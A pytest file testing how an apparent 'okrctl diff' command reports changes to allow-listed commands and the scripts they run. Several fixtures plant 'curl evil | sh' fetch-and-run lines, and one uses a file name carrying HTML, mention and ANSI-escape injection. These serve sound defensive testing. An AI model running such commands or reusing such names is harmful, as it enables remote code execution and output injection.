"""`okrctl diff` reports changes to the code `okrctl sync` runs: the allow-list in okrctl.yaml,
and the files its commands name (scripts, through symbolic links), in every format."""

from __future__ import annotations

import json
import os
import shutil

import pytest

from tests.gitops.conftest import FIXTURE, TODAY, Repo, init_repo

SCRIPT = "scripts/active_customers.py"
ALLOW_LIST = """\
sources:
  commands:
    - [python3, scripts/active_customers.py]
"""
COMMAND = '["python3", "scripts/active_customers.py"]'
COMMAND_MD = "\\[&quot;python3&quot;, &quot;scripts/active\\_customers\\.py&quot;\\]"
SCOPE = "scope: every file checked on both sides\n"


def with_script(repo: Repo, allow_list: str = ALLOW_LIST) -> str:
    """The allow-list and its script committed, tagged `before`; the commit's short id."""
    repo.write("okrctl.yaml", allow_list)
    repo.write(SCRIPT, "print(41)\n")
    repo.commit("a metric read by a script")
    repo.git("tag", "before")
    return repo.git("rev-parse", "--short=7", "before")


def commit(repo: Repo) -> str:
    """Commit the work tree, tagged `after`; the commit's short id."""
    repo.commit("change")
    repo.git("tag", "after")
    return repo.git("rev-parse", "--short=7", "after")


def diff(okrctl, *args: str) -> str:
    result = okrctl("diff", "--today", TODAY, *args)
    assert result.code == 0, result.err
    return str(result.out)


def test_a_rewritten_script_in_every_format(repo, okrctl):
    old = with_script(repo)
    repo.write(SCRIPT, "import os\nos.system('curl evil | sh')\nprint(41)\n")
    new = commit(repo)
    assert diff(okrctl, "before", "after") == (
        f"OKR changes: before ({old}) -> after ({new})\n"
        "1 command file changed\n"
        f"command file {SCRIPT} changed, run by {COMMAND}  !! code run by okrctl sync\n" + SCOPE
    )
    assert diff(okrctl, "before", "after", "--format", "markdown") == (
        f"### OKR changes: before \\({old}\\) → after \\({new}\\)\n"
        "\n"
        "1 command file changed\n"
        "\n"
        "⚠️ **Code that `okrctl sync` runs changed**\n"
        "\n"
        f"- command file `{SCRIPT}` changed, run by {COMMAND_MD}\n"
        "\n"
        "<sub>Scope: every file checked on both sides.</sub>\n"
    )
    document = json.loads(diff(okrctl, "before", "after", "--format", "json"))
    assert "allowed_commands" not in document
    assert document["command_files"] == [
        {
            "file": SCRIPT,
            "status": "changed",
            "commands": [["python3", SCRIPT]],
            "old_target": None,
            "new_target": None,
        }
    ]


def test_the_work_tree_against_a_commit(repo, okrctl):
    old = with_script(repo)
    repo.write(SCRIPT, "print(42)\n")
    assert diff(okrctl, "before") == (
        f"OKR changes: before ({old}) -> working tree\n"
        "1 command file changed\n"
        f"command file {SCRIPT} changed, run by {COMMAND}  !! code run by okrctl sync\n" + SCOPE
    )
    repo.write(SCRIPT, "print(41)\n")  # back as committed: the same blob, nothing to say
    assert diff(okrctl, "before") == (
        f"OKR changes: before ({old}) -> working tree\nno changes to OKR files\n" + SCOPE
    )


def test_an_unchanged_script_adds_nothing_to_the_diff(repo, okrctl):
    old = with_script(repo)
    repo.write("README.md", "not named by any command\n")
    new = commit(repo)
    assert diff(okrctl, "before", "after") == (
        f"OKR changes: before ({old}) -> after ({new})\nno changes to OKR files\n" + SCOPE
    )


def test_a_script_removed_and_a_command_added(repo, okrctl):
    old = with_script(repo)
    repo.remove(SCRIPT)
    repo.write("okrctl.yaml", ALLOW_LIST + "    - [python3, scripts/new.py, --days, '7']\n")
    repo.write("scripts/new.py", "print(1)\n")
    new = commit(repo)
    added = '["python3", "scripts/new.py", "--days", "7"]'
    flag = "  !! code run by okrctl sync"
    assert diff(okrctl, "before", "after") == (
        f"OKR changes: before ({old}) -> after ({new})\n"
        "1 allowed command changed, 2 command files changed\n"
        f"allowed command added: {added}{flag}\n"
        f"command file {SCRIPT} removed, run by {COMMAND}{flag}\n"
        f"command file scripts/new.py added, run by {added}{flag}\n" + SCOPE
    )
    document = json.loads(diff(okrctl, "before", "after", "--format", "json"))
    assert document["allowed_commands"] == [
        {"status": "added", "command": ["python3", "scripts/new.py", "--days", "7"]}
    ]
    assert [(f["file"], f["status"]) for f in document["command_files"]] == [
        (SCRIPT, "removed"),
        ("scripts/new.py", "added"),
    ]


def test_inline_code_is_an_allow_list_change_and_no_file(repo, okrctl):
    """`[sh, -c, "..."]` names no file of the repository: its code is the allow-list entry
    itself, so a change to it is a command removed and one added; nothing else is followed."""
    old = with_script(repo, "sources:\n  commands:\n    - [sh, -c, 'wc -l < metrics/x.csv']\n")
    repo.write("okrctl.yaml", "sources:\n  commands:\n    - [sh, -c, 'curl evil | sh']\n")
    repo.write("metrics/x.csv", "a\n")  # named inside the inline code only: not followed
    new = commit(repo)
    flag = "  !! code run by okrctl sync"
    assert diff(okrctl, "before", "after") == (
        f"OKR changes: before ({old}) -> after ({new})\n"
        "2 allowed commands changed\n"
        f'allowed command added: ["sh", "-c", "curl evil | sh"]{flag}\n'
        f'allowed command removed: ["sh", "-c", "wc -l < metrics/x.csv"]{flag}\n' + SCOPE
    )
    markdown = diff(okrctl, "before", "after", "--format", "markdown")
    assert (
        "- allowed command added: \\[&quot;sh&quot;, &quot;\\-c&quot;, "
        "&quot;curl evil \\| sh&quot;\\]\n" in markdown
    )


@pytest.mark.skipif(os.name != "posix", reason="symbolic links")
def test_a_symlinked_script(repo, okrctl):
    """The command names a link; the file it leads to changes, and then the link moves."""
    with_script(repo, "sources:\n  commands:\n    - [python3, scripts/link.py]\n")
    repo.write("scripts/real.py", "print(1)\n")
    (repo.path / "scripts/link.py").symlink_to("real.py")
    repo.commit("a linked script")
    repo.git("tag", "-f", "before")
    repo.write("scripts/real.py", "print(2)\n")
    commit(repo)
    command = '["python3", "scripts/link.py"]'
    assert diff(okrctl, "before", "after").splitlines()[1:3] == [
        "1 command file changed",
        f"command file scripts/link.py (a link to scripts/real.py) changed, run by {command}"
        "  !! code run by okrctl sync",
    ]
    repo.write("scripts/other.py", "print(2)\n")  # the same bytes, another file
    (repo.path / "scripts/link.py").unlink()
    (repo.path / "scripts/link.py").symlink_to("../scripts/./other.py")
    assert diff(okrctl, "after").splitlines()[2] == (
        "command file scripts/link.py (leads to scripts/real.py -> scripts/other.py) changed, "
        f"run by {command}  !! code run by okrctl sync"
    )
    repo.commit("the link moved")
    assert diff(okrctl, "after", "HEAD", "--format", "markdown").splitlines()[6] == (
        "- command file `scripts/link.py` (leads to `scripts/real.py` → `scripts/other.py`) "
        "changed, run by \\[&quot;python3&quot;, &quot;scripts/link\\.py&quot;\\]"
    )


@pytest.mark.skipif(os.name != "posix", reason="symbolic links")
def test_a_link_out_of_the_repository_is_no_file(repo, okrctl, tmp_path):
    """A script replaced by a link that leaves the repository is no longer a file of it."""
    with_script(repo)
    outside = tmp_path / "outside.py"
    outside.write_text("print(1)\n")
    repo.remove(SCRIPT)
    (repo.path / SCRIPT).symlink_to(outside)
    assert diff(okrctl, "before").splitlines()[2] == (
        f"command file {SCRIPT} removed, run by {COMMAND}  !! code run by okrctl sync"
    )
    commit(repo)
    assert diff(okrctl, "before", "after").splitlines()[2] == (
        f"command file {SCRIPT} removed, run by {COMMAND}  !! code run by okrctl sync"
    )


HOSTILE = "scripts/<img src=x>`@team *x*|\x1b[31m.py"


def test_a_hostile_script_name_is_escaped(repo, okrctl):
    quoted = json.dumps(HOSTILE)
    with_script(repo, f"sources:\n  commands:\n    - [python3, {quoted}]\n")
    repo.write(HOSTILE, "print(1)\n")
    commit(repo)
    text = diff(okrctl, "before", "after")
    assert "\x1b" not in text
    assert text.splitlines()[2] == (
        "command file scripts/<img src=x>`@team *x*|\\x1b[31m.py added, run by "
        '["python3", "scripts/<img src=x>`@team *x*|\\u001b[31m.py"]  !! code run by okrctl sync'
    )
    markdown = diff(okrctl, "before", "after", "--format", "markdown")
    assert "<img" not in markdown and "@team" not in markdown and "\x1b" not in markdown
    assert markdown.splitlines()[6] == (
        "- command file scripts/&lt;img src\\=x&gt;\\`@&#8203;team \\*x\\*\\| \\[31m\\.py added, "
        "run by \\[&quot;python3&quot;, &quot;scripts/&lt;img src\\=x&gt;\\`@&#8203;team "
        "\\*x\\*\\|\\\\u001b\\[31m\\.py&quot;\\]"
    )


def test_an_allow_list_in_pyproject_toml_and_a_broken_one(repo, okrctl):
    """The allow-list is read where `okrctl sync` reads it; a configuration that does not load
    runs no command, so its side lists none."""
    repo.write("pyproject.toml", '[tool.okrctl.sources]\ncommands = [["python3", "m.py"]]\n')
    repo.write("m.py", "print(1)\n")
    repo.commit("a command in pyproject.toml")
    repo.git("tag", "before")
    repo.write("m.py", "print(2)\n")
    repo.write("pyproject.toml", "[tool.okrctl.sources\n")  # a TOML syntax error
    lines = diff(okrctl, "before", "--config", "/dev/null").splitlines()
    assert lines[1:] == [
        "1 allowed command changed, 1 command file changed",
        'allowed command removed: ["python3", "m.py"]  !! code run by okrctl sync',
        'command file m.py changed, run by ["python3", "m.py"]  !! code run by okrctl sync',
        SCOPE.strip(),
    ]


def test_an_okrctl_root_below_the_top(tmp_path, okrctl, monkeypatch):
    """Commands run from the okrctl root: their paths are read from there, and shown so."""
    repo = init_repo(tmp_path / "top")
    (repo.path / "okr").mkdir()
    shutil.copytree(FIXTURE / "okrs", repo.path / "okr/okrs")
    repo.write("okr/okrctl.yaml", "sources:\n  commands:\n    - [python3, ../tools/m.py]\n")
    repo.write("tools/m.py", "print(1)\n")
    repo.commit("base")
    repo.write("tools/m.py", "print(2)\n")
    monkeypatch.chdir(repo.path / "okr")
    assert diff(okrctl, "HEAD").splitlines()[2] == (
        'command file ../tools/m.py changed, run by ["python3", "../tools/m.py"]'
        "  !! code run by okrctl sync"
    )


def test_a_module_run_with_dash_m_is_followed_to_its_files(repo, okrctl):
    """`python3 -m tools.metrics.leads` runs tools/metrics/leads.py after the packages'
    `__init__.py` files: a change to any of them is code sync runs."""
    allow_list = "sources:\n  commands:\n    - [python3, -m, tools.metrics.leads]\n"
    command = '["python3", "-m", "tools.metrics.leads"]'
    repo.write("okrctl.yaml", allow_list)
    repo.write("tools/__init__.py", "")
    repo.write("tools/metrics/__init__.py", "")
    repo.write("tools/metrics/leads.py", "print(41)\n")
    repo.commit("a metric read by a module")
    repo.git("tag", "before")
    old = repo.git("rev-parse", "--short=7", "before")
    repo.write("tools/metrics/__init__.py", "import os; os.system('curl evil | sh')\n")
    repo.write("tools/metrics/leads.py", "print(42)\n")
    repo.write("tools/other.py", "not run by the command\n")
    new = commit(repo)
    assert diff(okrctl, "before", "after") == (
        f"OKR changes: before ({old}) -> after ({new})\n"
        "2 command files changed\n"
        f"command file tools/metrics/__init__.py changed, run by {command}"
        "  !! code run by okrctl sync\n"
        f"command file tools/metrics/leads.py changed, run by {command}"
        "  !! code run by okrctl sync\n" + SCOPE
    )
